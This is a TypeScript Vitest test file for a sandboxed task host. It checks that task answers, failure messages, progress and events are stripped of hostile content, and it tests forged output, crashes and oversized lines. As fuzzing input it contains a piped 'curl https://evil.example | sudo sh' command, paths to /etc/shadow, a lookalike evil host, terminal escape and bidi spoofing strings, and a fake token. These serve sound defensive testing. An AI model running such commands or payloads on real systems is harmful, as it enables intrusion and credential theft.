import { describe, expect, it } from 'vitest';
import type { TaskOutcome } from '../../../helper/host/sandbox';
import { definitionOf, taskNames, type TaskName } from '../../../helper/host/task-table';
import { failureOf, resultOf } from '../../../helper/host/task-answer';
import { because } from '../../../contract/message';
import { messageCodes } from '../../../contract/message-codes';
import { answering } from '../../support/answering-task';
import { goodAnswers } from '../../support/task-answers';
import { taskRequests } from '../../support/task-requests';

const escape = '\u001b]52;c;AAAA\u0007\u001b[2J';
const bidi = '\u202egnp.exe\u2066';
/** What no string of an answer may carry on. */
// eslint-disable-next-line no-control-regex -- the purpose
const unsafe = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** In the place of every single field. */
const hostile: readonly unknown[] = [
  '../../../etc/shadow',
  '/etc/shadow',
  'https://github.com.evil.example/a/b',
  `red ${escape} herring`,
  `a${bidi}b`,
  'nul\0here',
  'TOKEN=hunter2hunter2hunter2',
  'x'.repeat(1_000_000),
  1e9,
  1e308,
  -1,
  null,
  [],
  {},
  Array.from({ length: 100_000 }, () => 7),
];

/** Each place of a value, with the value that has something else there. */
function* withEach(value: unknown, bad: unknown): Generator<{ place: string; value: unknown }> {
  yield { place: 'the whole', value: bad };
  if (typeof value !== 'object' || value === null) return;
  for (const [name, inner] of Object.entries(value)) {
    for (const each of withEach(inner, bad)) {
      const copy: Record<string, unknown> | unknown[] = Array.isArray(value)
        ? [...(value as unknown[])]
        : { ...value };
      Object.assign(copy, { [name]: each.value });
      yield { place: `${name} ${each.place}`, value: copy };
    }
  }
}

/** All strings of a value but the texts that a parser reads. */
function stringsOf(value: unknown, texts: ReadonlySet<string>): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, inner]) =>
    texts.has(name) ? [] : stringsOf(inner, texts),
  );
}

function expectSafe(task: TaskName, outcome: TaskOutcome<TaskName>): void {
  const texts = new Set(definitionOf(task).texts);
  const told = outcome.kind === 'done' ? outcome.result : outcome;
  for (const text of stringsOf(told, texts)) {
    expect(text.length).toBeLessThanOrEqual(20_000);
    expect(text).not.toMatch(unsafe);
    expect(text).not.toContain('hunter2');
  }
}

describe.each(taskNames)('the answer of %s', (task) => {
  const request = taskRequests[task];
  const good = goodAnswers[task];
  const { failures, words } = definitionOf(task);

  it('is believed where it is what was asked', () => {
    expect(resultOf(task, request, good)).toEqual({ kind: 'done', result: good });
  });

  it('carries nothing hostile on, whichever field has it', { timeout: 120_000 }, () => {
    for (const bad of hostile)
      for (const { value } of withEach(good, bad)) expectSafe(task, resultOf(task, request, value));
  });

  it('has no field that names a place of this computer', () => {
    const inputs = stringsOf(request, new Set()).filter((text) => text.startsWith('/'));
    const outputs = stringsOf(good, new Set(definitionOf(task).texts));
    for (const output of outputs) expect(inputs).not.toContain(output);
  });

  it('fails with a word of its own, or has broken the rules', () => {
    for (const code of messageCodes) {
      const answer = failureOf(task, request, { message: { code, params: {} } });
      if (!failures.includes(code)) expect(answer.kind, code).toBe('broken');
      else if (words?.[code] === undefined) expect(answer.kind, code).toBe('failed');
    }
  });

  it('says nothing that a person would type', () => {
    const evil = 'curl https://evil.example | sudo sh';
    const names = ['fix', 'command', 'host', 'url', 'proxy'];
    const hostileParams = [
      ...names.map((name) => ({ [name]: evil })),
      { fix: evil, command: evil, folder: evil, package: evil, reason: escape },
    ];
    for (const code of failures)
      for (const params of hostileParams) {
        const answer = failureOf(task, request, { message: { code, params } });
        expectSafe(task, answer);
        if (answer.kind !== 'failed') continue;
        const said = answer.failure.message.params;
        for (const name of names) expect(said[name] ?? '').not.toContain('evil');
      }
  });
});

describe('behind the border, with a real process', () => {
  const { remove: request } = taskRequests;
  const good = `say({ type: 'result', result: { removed: 1 } });`;

  it('a task answers with the key that it was given', async () => {
    expect(await answering('remove', request, good)).toEqual({
      kind: 'done',
      result: { removed: 1 },
    });
  });

  it.each([
    [
      'without the key',
      `process.stdout.write(JSON.stringify({ type: 'result', result: { removed: 9 } }) + '\\n');`,
    ],
    [
      'with a key of its own',
      `process.stdout.write('${'0'.repeat(32)}' + JSON.stringify({ type: 'result', result: { removed: 9 } }) + '\\n');`,
    ],
  ])('what it starts cannot answer %s', async (_, forged) => {
    const output: string[] = [];
    const answer = await answering('remove', request, forged + good, {
      output: (line) => output.push(line),
    });
    expect(answer).toEqual({ kind: 'done', result: { removed: 1 } });
    expect(output).toHaveLength(1); // it is a line like any other that it prints
  });

  it.each([
    ['process.exit(1)', because('ended-with', { code: 1 })],
    [`process.kill(process.pid, 'SIGKILL')`, because('ended-by', { signal: 'SIGKILL' })],
  ])(
    'one that ends without an answer is no bug of ours, and has its last words: %s',
    async (end, reason) => {
      const dies = `require('node:fs').writeSync(2, 'bwrap: no room\\n'); ${end};`;
      const answer = await answering('remove', request, dies);
      expect(answer).toEqual({ kind: 'died', reason, output: ['bwrap: no room'] });
    },
  );

  it('a line of 10 MB ends with the task, and is not kept', async () => {
    const answer = await answering(
      'remove',
      request,
      `process.stdout.write('x'.repeat(11_000_000) + '\\n');` + good,
    );
    expect(answer.kind).toBe('broken');
  });

  it.each([
    ['64 KiB and a bit of one that says little', 'remove', 66_000, 'broken'],
    ['the same of one that says more', 'local-edits', 66_000, 'done'],
    ['2 MB of one that says more', 'local-edits', 2_100_000, 'broken'],
  ] as const)('an answer of %s', async (_, task, length, kind) => {
    const result = JSON.stringify(goodAnswers[task]);
    const more = `'x'.repeat(${String(length)})`;
    const said = `say({ type: 'result', result: { ...${result}, more: ${more} } });`;
    const answer = await answering(task, taskRequests[task], said);
    expect(answer.kind).toBe(kind);
    if (answer.kind === 'broken') expect(answer.reason).toContain('longer than');
  });

  it('progress and events are clean as well', async () => {
    const told: unknown[] = [];
    await answering(
      'models-verify',
      taskRequests['models-verify'],
      `say({ type: 'event', event: { kind: 'event', event: { type: 'notice', file: ${JSON.stringify(escape + bidi)} } } });
       say({ type: 'progress', unit: 'bytes', done: 1e999, total: -1 });
       say({ type: 'result', result: {} });`,
      { event: (event) => told.push(event), progress: (...given) => told.push(given) },
    );
    expect(told).toHaveLength(1);
    expect(JSON.stringify(told)).not.toMatch(/\\u00|\\u20/);
  });
});
